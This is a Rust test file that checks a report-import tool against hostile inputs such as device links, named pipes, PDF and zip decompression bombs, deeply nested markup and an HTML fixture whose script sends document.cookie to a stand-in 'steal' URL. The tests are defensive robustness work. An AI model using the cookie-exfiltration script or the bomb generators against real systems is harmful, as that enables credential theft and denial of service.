//! Hostile files, one kind per test, each beside an ordinary report: the
//! real `corroborate` binary is spawned under a memory limit and a time
//! limit, and must import the ordinary report and either import the hostile
//! file or list it with a reason. A hang, a crash or a blown memory limit
//! fails the test.

use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const GOOD: &str = "Harbour fire – Coast Herald\n\nThe fire at the harbour began at 9 p.m. on Friday, the fire service said.\n";

/// Address space the binary may use, in KiB (generous for an unoptimized
/// build, far below what an unbounded read would take).
const MEMORY_KIB: u64 = 2 * 1024 * 1024;
/// Past this the binary is taken to hang.
const HANG: Duration = Duration::from_secs(150);

/// What became of one file.
#[derive(Debug)]
enum Said {
    Imported { warnings: Vec<String>, text: String },
    Listed(String),
}

struct Run {
    json: Value,
    stderr: String,
}

impl Run {
    fn said(&self, name: &str) -> Said {
        let said = self.find(name);
        // Shown with --nocapture: what became of each kind, for the README.
        if !matches!(name, "good.txt") {
            match &said {
                Said::Listed(reason) => eprintln!("{name}: listed: {reason}"),
                Said::Imported { warnings, .. } => eprintln!("{name}: imported {warnings:?}"),
            }
        }
        said
    }

    fn find(&self, name: &str) -> Said {
        let ends = |p: &str| p.ends_with(name);
        if let Some(s) = self.json["skipped"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|s| s["path"].as_str().is_some_and(ends))
        {
            return Said::Listed(s["reason"].as_str().unwrap_or_default().to_string());
        }
        let source = self.json["sources"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|s| s["path"].as_str().is_some_and(ends))
            .unwrap_or_else(|| {
                panic!(
                    "{name} is neither imported nor listed; stderr: {}",
                    self.stderr
                )
            });
        Said::Imported {
            warnings: source["warnings"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(|w| w.as_str().map(str::to_string))
                .collect(),
            text: source["text"].as_str().unwrap_or_default().to_string(),
        }
    }

    /// The reason a file was listed; fails if it was imported.
    fn reason(&self, name: &str) -> String {
        match self.said(name) {
            Said::Listed(reason) => {
                assert!(!reason.trim().is_empty(), "{name} is listed with a reason");
                reason
            }
            Said::Imported { .. } => panic!("{name} was imported"),
        }
    }

    /// The cleaned text of an imported file; fails if it was listed.
    fn text(&self, name: &str) -> String {
        match self.said(name) {
            Said::Imported { text, .. } => text,
            Said::Listed(reason) => panic!("{name} was listed: {reason}"),
        }
    }

    /// Imported, or listed with a reason: either way accounted for.
    fn accounted(&self, name: &str) {
        if let Said::Listed(reason) = self.said(name) {
            assert!(!reason.trim().is_empty());
        }
    }
}

/// The command line, under the memory limit where the system has one.
fn bounded(args: &[&Path]) -> Command {
    let bin = env!("CARGO_BIN_EXE_corroborate");
    if cfg!(unix) {
        let mut c = Command::new("sh");
        c.arg("-c")
            .arg(format!("ulimit -v {MEMORY_KIB} && exec \"$0\" \"$@\"",))
            .arg(bin)
            .args(args);
        c
    } else {
        let mut c = Command::new(bin);
        c.args(args);
        c
    }
}

/// Spawns the command and waits for it, up to [`HANG`]; returns its
/// standard error.
fn wait_bounded(mut cmd: Command, scratch: &Path) -> String {
    let err_path = scratch.join("stderr.txt");
    let err = std::fs::File::create(&err_path).unwrap();
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(err)
        .spawn()
        .unwrap();
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > HANG {
            let _ = child.kill();
            let _ = child.wait();
            panic!("corroborate did not finish within {HANG:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let stderr = std::fs::read_to_string(&err_path).unwrap_or_default();
    assert!(
        status.success(),
        "corroborate failed ({status}) within its memory limit: {stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    stderr
}

/// `corroborate analyze` on a folder holding the ordinary report and what
/// `setup` puts beside it.
fn analyze_beside(setup: impl FnOnce(&Path)) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("good.txt"), GOOD).unwrap();
    setup(dir.path());
    let out = scratch.path().join("out.json");
    let stderr = wait_bounded(
        bounded(&[Path::new("analyze"), dir.path(), Path::new("--json"), &out]),
        scratch.path(),
    );
    let json: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    let run = Run { json, stderr };
    assert!(
        matches!(run.said("good.txt"), Said::Imported { .. }),
        "the ordinary report is imported"
    );
    run
}

fn write(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// A PDF of these objects (numbered from 1, the first the catalog), with a
/// cross-reference table that points at them.
fn pdf(objects: &[&str]) -> Vec<u8> {
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A page's content stream that shows `text`.
fn page_content(text: &str) -> String {
    let stream = format!("BT /F1 12 Tf 72 720 Td ({text}) Tj ET");
    format!(
        "<< /Length {} >>\nstream\n{stream}\nendstream",
        stream.len()
    )
}

const FONT: &str = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

// ---- devices, pipes, links ----

#[cfg(unix)]
#[test]
fn a_named_pipe_is_listed_not_waited_on() {
    let run = analyze_beside(|d| {
        let ok = Command::new("mkfifo").arg(d.join("pipe.txt")).status();
        assert!(ok.is_ok_and(|s| s.success()));
    });
    assert!(run.reason("pipe.txt").contains("named pipe"));
}

#[cfg(unix)]
#[test]
fn a_link_to_dev_zero_is_listed_not_read() {
    let run =
        analyze_beside(|d| std::os::unix::fs::symlink("/dev/zero", d.join("zero.txt")).unwrap());
    assert!(
        run.reason("zero.txt")
            .contains("a link to a device (/dev/zero)")
    );
}

#[cfg(unix)]
#[test]
fn a_link_to_dev_urandom_named_as_a_page_is_listed_not_read() {
    let run = analyze_beside(|d| {
        std::os::unix::fs::symlink("/dev/urandom", d.join("rand.html")).unwrap()
    });
    assert!(run.reason("rand.html").contains("device"));
}

#[cfg(unix)]
#[test]
fn a_socket_is_listed() {
    let run = analyze_beside(|d| {
        // The listener is dropped, the socket file stays.
        let _ = std::os::unix::net::UnixListener::bind(d.join("socket.txt")).unwrap();
    });
    assert!(run.reason("socket.txt").contains("a socket"));
}

#[cfg(unix)]
#[test]
fn a_link_to_a_pipe_is_listed() {
    let run = analyze_beside(|d| {
        let ok = Command::new("mkfifo").arg(d.join(".fifo")).status();
        assert!(ok.is_ok_and(|s| s.success()));
        std::os::unix::fs::symlink(d.join(".fifo"), d.join("via-link.txt")).unwrap();
    });
    assert!(
        run.reason("via-link.txt")
            .contains("a link to a named pipe")
    );
}

#[cfg(unix)]
#[test]
fn a_dangling_link_is_listed() {
    let run = analyze_beside(|d| {
        std::os::unix::fs::symlink(d.join("nowhere.txt"), d.join("dangling.txt")).unwrap()
    });
    assert_eq!(run.reason("dangling.txt"), "it does not exist");
}

#[cfg(unix)]
#[test]
fn a_folder_that_links_to_itself_ends() {
    let run = analyze_beside(|d| {
        std::fs::create_dir(d.join("loop")).unwrap();
        write(
            &d.join("loop"),
            "inside.txt",
            GOOD.replace("Friday", "Monday"),
        );
        std::os::unix::fs::symlink(d, d.join("loop").join("back")).unwrap();
    });
    assert!(run.text("inside.txt").contains("Monday"));
}

#[cfg(unix)]
#[test]
fn a_path_longer_than_the_system_allows_is_listed() {
    let run = analyze_beside(|d| {
        // Made with short names, then renamed from the deepest up, so that
        // no call sees the whole path: 30 names of 200 letters pass Linux's
        // 4,096.
        let short = |k: usize| (0..k).fold(d.to_path_buf(), |p, _| p.join("s"));
        std::fs::create_dir_all(short(30)).unwrap();
        write(&short(30), "deep.txt", "The ferry sailed at noon.");
        let long = "n".repeat(200);
        for k in (1..=30).rev() {
            std::fs::rename(short(k), short(k - 1).join(&long)).unwrap();
        }
    });
    let listed = run.json["skipped"].as_array().cloned().unwrap_or_default();
    assert!(
        listed.iter().any(|s| s["reason"]
            .as_str()
            .is_some_and(|r| r.contains("longer than the system allows"))),
        "{listed:?}"
    );
}

#[cfg(unix)]
#[test]
fn a_file_without_read_permission_is_accounted_for() {
    use std::os::unix::fs::PermissionsExt;
    let run = analyze_beside(|d| {
        let p = write(d, "locked.txt", GOOD.replace("Friday", "Tuesday"));
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o000)).unwrap();
    });
    // Read by an administrator, refused to anyone else.
    if let Said::Listed(reason) = run.said("locked.txt") {
        assert_eq!(reason, "permission denied");
    }
}

#[cfg(unix)]
#[test]
fn a_file_name_that_is_not_utf8_is_imported() {
    use std::os::unix::ffi::OsStrExt;
    let run = analyze_beside(|d| {
        let name = std::ffi::OsStr::from_bytes(b"caf\xe9 report.txt");
        std::fs::write(d.join(name), GOOD.replace("Friday", "Sunday")).unwrap();
    });
    assert!(run.text("report.txt").contains("Sunday"));
}

// ---- sizes, and files that change while they are read ----

#[test]
fn a_sparse_file_over_the_size_limit_is_listed_unread() {
    let run = analyze_beside(|d| {
        let f = std::fs::File::create(d.join("huge.txt")).unwrap();
        f.set_len(200 * 1024 * 1024).unwrap();
    });
    assert!(run.reason("huge.txt").contains("too large"));
}

#[cfg(unix)]
#[test]
fn a_file_that_grows_while_it_is_read_is_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("growing.txt");
    write(dir.path(), "growing.txt", "The tide rose. ".repeat(1000));
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (growing, has_grown) = std::sync::mpsc::channel();
    let writer = {
        let (path, stop) = (path.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut f = std::fs::OpenOptions::new().append(true).open(path).unwrap();
            let chunk = "The tide rose again. ".repeat(50_000);
            // Up to 1 GB, far past the limit, unless the import ends first.
            for _ in 0..1000 {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                if f.write_all(chunk.as_bytes()).is_err() {
                    break;
                }
                let _ = growing.send(());
            }
        })
    };
    // On a loaded machine the import could otherwise read the small file
    // whole before this thread first runs: a finished file, not a growing
    // one. Eight megabytes in, it is plainly being written.
    for _ in 0..8 {
        has_grown.recv().unwrap();
    }
    let run = analyze_beside(|d| {
        std::os::unix::fs::symlink(&path, d.join("growing.txt")).unwrap();
    });
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    writer.join().unwrap();
    // Never imported half-written: listed as too large or as changing.
    assert!(
        matches!(run.said("growing.txt"), Said::Listed(_)),
        "{:?}",
        run.stderr
    );
    run.accounted("growing.txt");
}

#[cfg(unix)]
#[test]
fn a_file_that_vanishes_during_the_import_is_accounted_for() {
    let dir = tempfile::tempdir().unwrap();
    let flicker = dir.path().join("flicker.txt");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let toggler = {
        let (flicker, stop) = (flicker.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = std::fs::write(&flicker, GOOD.replace("Friday", "Saturday"));
                let _ = std::fs::remove_file(&flicker);
            }
        })
    };
    let run = analyze_beside(|d| {
        std::os::unix::fs::symlink(&flicker, d.join("flicker.txt")).unwrap();
    });
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    toggler.join().unwrap();
    // Gone when listed, gone when read, or read whole: never half a thing.
    if let Said::Imported { text, .. } = run.said("flicker.txt") {
        assert!(text.contains("Saturday"));
    }
}

#[test]
fn a_hundred_thousand_tiny_files_in_one_folder_import() {
    let dir = tempfile::tempdir().unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let reports = dir.path().join("reports");
    std::fs::create_dir(&reports).unwrap();
    let count = 100_000;
    for i in 0..count {
        std::fs::write(
            reports.join(format!("r{i:06}.txt")),
            format!("Report {i}: the ferry sailed at noon."),
        )
        .unwrap();
    }
    let project = scratch.path().join("p.corroborate");
    let started = Instant::now();
    let stderr = wait_bounded(
        bounded(&[
            Path::new("import"),
            &reports,
            Path::new("--project"),
            &project,
        ]),
        scratch.path(),
    );
    eprintln!(
        "100,000 tiny files walked, imported and saved in {:.1} s",
        started.elapsed().as_secs_f64()
    );
    assert!(
        stderr.contains(&format!("{count} report(s) added")),
        "{stderr}"
    );
}

// ---- text ----

#[test]
fn nul_bytes_and_control_characters_in_text() {
    let run = analyze_beside(|d| {
        let mut bytes = b"The mayor\x00 spoke\x01 at noon\x1b[31m on the quay.\x07\n".repeat(50);
        bytes.extend_from_slice(GOOD.as_bytes());
        write(d, "controls.txt", bytes);
    });
    run.accounted("controls.txt");
}

#[test]
fn right_to_left_overrides_and_zero_width_characters_inside_names() {
    let run = analyze_beside(|d| {
        write(
            d,
            "invisible.txt",
            "Ferry talks – Gulf Daily\n\nMayor Ann\u{200B}a Lind\u{200D}qvist met \u{202E}Karl Berg\u{202C} in Oslo on Monday. Lind\u{FEFF}qvist said the talks went well.\n",
        );
    });
    let text = run.text("invisible.txt");
    assert!(
        text.contains("Mayor Anna Lindqvist met Karl Berg in Oslo"),
        "{text:?}"
    );
    let people: Vec<&str> = run.json["entities"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["kind"] == "person")
        .filter_map(|e| e["name"].as_str())
        .collect();
    assert!(people.contains(&"Karl Berg"), "{people:?}");
    assert!(people.contains(&"Anna Lindqvist"), "{people:?}");
}

#[test]
fn invalid_utf16_surrogates() {
    let run = analyze_beside(|d| {
        let mut units: Vec<u16> = "Storm closes the port – Tide Times\n\nThe port closed"
            .encode_utf16()
            .collect();
        units.extend([0xD800, 0x0041, 0xDC00, 0xDFFF]);
        units.extend(" on Sunday.".encode_utf16());
        let bytes: Vec<u8> = [0xFF, 0xFE]
            .into_iter()
            .chain(units.into_iter().flat_map(u16::to_le_bytes))
            .collect();
        write(d, "surrogates.txt", bytes);
    });
    match run.said("surrogates.txt") {
        Said::Imported { warnings, text } => {
            assert!(text.contains("on Sunday."), "{text}");
            assert!(
                warnings.iter().any(|w| w.contains('\u{FFFD}')),
                "{warnings:?}"
            );
        }
        Said::Listed(reason) => panic!("listed: {reason}"),
    }
}

#[test]
fn utf16_without_a_byte_order_mark() {
    let run = analyze_beside(|d| {
        let bytes: Vec<u8> = "Storm closes the port – Tide Times\n\nThe port closed on Sunday."
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        write(d, "utf16le.txt", bytes);
    });
    assert!(
        run.text("utf16le.txt")
            .contains("The port closed on Sunday.")
    );
}

#[test]
fn windows_1252_text() {
    let run = analyze_beside(|d| {
        write(
            d,
            "latin.txt",
            b"Caf\xe9 fire \x96 Harbour Post\n\nThe caf\xe9 on the quay burned, said Ren\xe9e Dub\xe9.\n",
        );
    });
    assert!(run.text("latin.txt").contains("Renée"));
}

#[test]
fn old_mac_line_endings() {
    let run = analyze_beside(|d| {
        write(
            d,
            "cr.txt",
            "Quay fire\r\rThe quay burned overnight.\rCrews left at dawn.\r",
        );
    });
    assert!(run.text("cr.txt").contains("Crews left at dawn."));
}

#[test]
fn a_million_one_word_lines() {
    let run = analyze_beside(|d| {
        write(d, "lines.txt", "word\n".repeat(1_000_000));
    });
    run.accounted("lines.txt");
}

#[test]
fn one_line_of_eight_megabytes() {
    let run = analyze_beside(|d| {
        write(
            d,
            "one-line.txt",
            "The river rose again overnight and the bridge stayed shut. ".repeat(140_000),
        );
    });
    assert!(run.text("one-line.txt").len() > 8_000_000);
}

#[test]
fn one_word_of_five_megabytes() {
    let run = analyze_beside(|d| {
        write(
            d,
            "word.txt",
            format!("Start. {} end.", "a".repeat(5_000_000)),
        );
    });
    run.accounted("word.txt");
}

#[test]
fn a_storm_of_abbreviations_and_initials() {
    let run = analyze_beside(|d| {
        write(
            d,
            "abbrev.txt",
            "The U.S. Gov. Mr. J. R. R. Smith said. ".repeat(20_000),
        );
    });
    run.accounted("abbrev.txt");
}

#[test]
fn a_report_that_is_nothing_but_names() {
    let run = analyze_beside(|d| {
        let names: String = (0..40_000)
            .map(|i| {
                format!(
                    "Anna Berg{i} of Vale{} Corp met Karl Lind in Oslo{}. ",
                    i % 97,
                    i % 13
                )
            })
            .collect();
        write(d, "names.txt", names);
    });
    run.accounted("names.txt");
}

#[test]
fn an_elf_binary_named_as_text() {
    let run = analyze_beside(|d| {
        let mut bytes = b"\x7fELF\x02\x01\x01\0".to_vec();
        bytes.extend((0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
        write(d, "program.txt", bytes);
    });
    assert!(run.reason("program.txt").contains("binary"));
}

#[test]
fn an_empty_file() {
    let run = analyze_beside(|d| {
        write(d, "empty.txt", "");
    });
    assert!(run.reason("empty.txt").contains("empty"));
}

#[test]
fn only_punctuation() {
    let run = analyze_beside(|d| {
        write(d, "dots.txt", "... --- !!! ??? ***\n".repeat(100));
    });
    assert!(run.reason("dots.txt").contains("no words"));
}

#[test]
fn a_markdown_quote_nested_a_hundred_thousand_deep() {
    let run = analyze_beside(|d| {
        write(
            d,
            "quote.md",
            format!("{}deep quote\n", "> ".repeat(100_000)),
        );
    });
    run.accounted("quote.md");
}

// ---- HTML ----

#[test]
fn a_tag_with_two_hundred_thousand_attributes() {
    let run = analyze_beside(|d| {
        let attrs: String = (0..200_000).map(|i| format!(" a{i}=\"1\"")).collect();
        write(
            d,
            "attrs.html",
            format!("<html><body><p{attrs}>Text.</p></body></html>"),
        );
    });
    assert!(run.reason("attrs.html").contains("attributes"));
}

#[test]
fn a_gzip_compressed_page() {
    let run = analyze_beside(|d| {
        let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(b"<html><body><p>The ferry sailed.</p></body></html>")
            .unwrap();
        write(d, "page.html.gz", z.finish().unwrap());
    });
    assert!(run.reason("page.html.gz").contains("compressed"));
}

#[test]
fn a_hundred_thousand_empty_paragraphs() {
    let run = analyze_beside(|d| {
        write(
            d,
            "empty-paragraphs.html",
            format!(
                "<html><body>{}<p>The dam held.</p></body></html>",
                "<p></p>".repeat(100_000)
            ),
        );
    });
    assert!(run.text("empty-paragraphs.html").contains("The dam held."));
}

#[test]
fn a_page_nested_ten_thousand_deep() {
    let run = analyze_beside(|d| {
        write(
            d,
            "deep.html",
            format!(
                "<html><body>{}<p>The dam held through the night.</p>{}</body></html>",
                "<div>".repeat(10_000),
                "</div>".repeat(10_000)
            ),
        );
    });
    assert_eq!(run.text("deep.html"), "The dam held through the night.");
}

#[test]
fn a_hundred_thousand_unclosed_links() {
    let run = analyze_beside(|d| {
        write(
            d,
            "anchors.html",
            format!(
                "<html><body><p>The ferry sailed.{}</p></body></html>",
                "<a href=x>".repeat(100_000)
            ),
        );
    });
    run.accounted("anchors.html");
}

#[test]
fn thirty_thousand_misnested_formatting_tags() {
    let run = analyze_beside(|d| {
        write(
            d,
            "misnested.html",
            format!(
                "<html><body><p>The ferry sailed.{}text</p></body></html>",
                "<b><i><u>".repeat(30_000)
            ),
        );
    });
    run.accounted("misnested.html");
}

#[test]
fn a_page_of_only_scripts_and_styles() {
    let run = analyze_beside(|d| {
        write(
            d,
            "scripts.html",
            "<html><head><style>p{color:red}</style><script>while(true){}</script></head><body><script>alert(1)</script></body></html>",
        );
    });
    assert!(run.reason("scripts.html").contains("no words"));
}

#[test]
fn a_page_that_runs_nothing_and_fetches_nothing() {
    let run = analyze_beside(|d| {
        write(
            d,
            "active.html",
            r#"<html><head><title>Ferry aground | Bay Post</title>
<script>document.location='https://example.invalid/steal?'+document.cookie</script></head>
<body><p>The ferry ran aground at dawn.<img src="https://example.invalid/pixel.gif"></p>
<iframe src="https://example.invalid/frame"></iframe></body></html>"#,
        );
    });
    let text = run.text("active.html");
    assert!(text.contains("The ferry ran aground at dawn."));
    assert!(!text.contains("example.invalid"), "{text}");
}

// ---- PDF and office files ----

#[test]
fn a_pdf_whose_stream_inflates_to_a_gigabyte() {
    let run = analyze_beside(|d| {
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..1024 {
            z.write_all(&zeros).unwrap();
        }
        let packed = z.finish().unwrap();
        let mut bytes = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n".to_vec();
        bytes.extend_from_slice(
            format!(
                "4 0 obj << /Length {} /Filter /FlateDecode >>\nstream\n",
                packed.len()
            )
            .as_bytes(),
        );
        bytes.extend_from_slice(&packed);
        bytes.extend_from_slice(b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
        write(d, "bomb.pdf", bytes);
    });
    assert!(run.reason("bomb.pdf").contains("inflate"));
}

#[test]
fn a_pdf_with_a_cycle_of_references() {
    let run = analyze_beside(|d| {
        let content = page_content("The ferry sailed at noon.");
        write(
            d,
            "cycle.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources 6 0 R /MediaBox [0 0 612 792] >>",
                &content,
                "7 0 R",
                "<< /Font << /F1 8 0 R >> /Next 5 0 R >>",
                "5 0 R",
                FONT,
            ]),
        );
    });
    run.accounted("cycle.pdf");
}

#[test]
fn a_pdf_whose_page_tree_refers_to_itself() {
    let run = analyze_beside(|d| {
        write(
            d,
            "self-tree.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
                "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 /Parent 3 0 R >>",
            ]),
        );
    });
    run.accounted("self-tree.pdf");
}

#[test]
fn a_pdf_of_deeply_nested_arrays() {
    let run = analyze_beside(|d| {
        let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
        write(
            d,
            "nested.pdf",
            pdf(&[
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [] /Count 0 >>",
                &deep,
            ]),
        );
    });
    assert!(run.reason("nested.pdf").contains("nest"));
}

#[test]
fn a_pdf_whose_cross_references_point_nowhere() {
    let run = analyze_beside(|d| {
        let mut bytes = pdf(&[
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [] /Count 0 >>",
        ]);
        let at = bytes.len() - 20;
        bytes.splice(at..at + 6, b"999999".iter().copied());
        bytes.extend_from_slice(b"xref\n0 3\n0000999999 00000 n \n");
        write(d, "xref.pdf", bytes);
    });
    run.accounted("xref.pdf");
}

#[test]
fn a_text_file_named_as_a_pdf() {
    let run = analyze_beside(|d| {
        write(d, "notes.pdf", "These are plain notes, not a PDF at all.");
    });
    assert!(run.reason("notes.pdf").contains("not a PDF"));
}

#[test]
fn a_docx_that_is_a_zip_bomb_is_refused_unopened() {
    let run = analyze_beside(|d| {
        // A zip's local header and a deflated gigabyte of zeros.
        let mut z = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..1024 {
            z.write_all(&zeros).unwrap();
        }
        let mut bytes = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
        bytes.extend_from_slice(&[0; 16]);
        bytes.extend_from_slice(&(17u16).to_le_bytes());
        bytes.extend_from_slice(&[0, 0]);
        bytes.extend_from_slice(b"word/document.xml");
        bytes.extend_from_slice(&z.finish().unwrap());
        write(d, "report.docx", bytes);
    });
    assert!(run.reason("report.docx").contains("never unpacked"));
}

#[test]
fn the_same_report_through_a_second_name_is_a_copy() {
    let run = analyze_beside(|d| {
        std::fs::hard_link(d.join("good.txt"), d.join("wire-copy.txt")).unwrap();
    });
    match run.said("wire-copy.txt") {
        Said::Imported { warnings, .. } => {
            assert!(warnings.iter().any(|w| w.contains("copy")), "{warnings:?}")
        }
        Said::Listed(reason) => panic!("listed: {reason}"),
    }
}
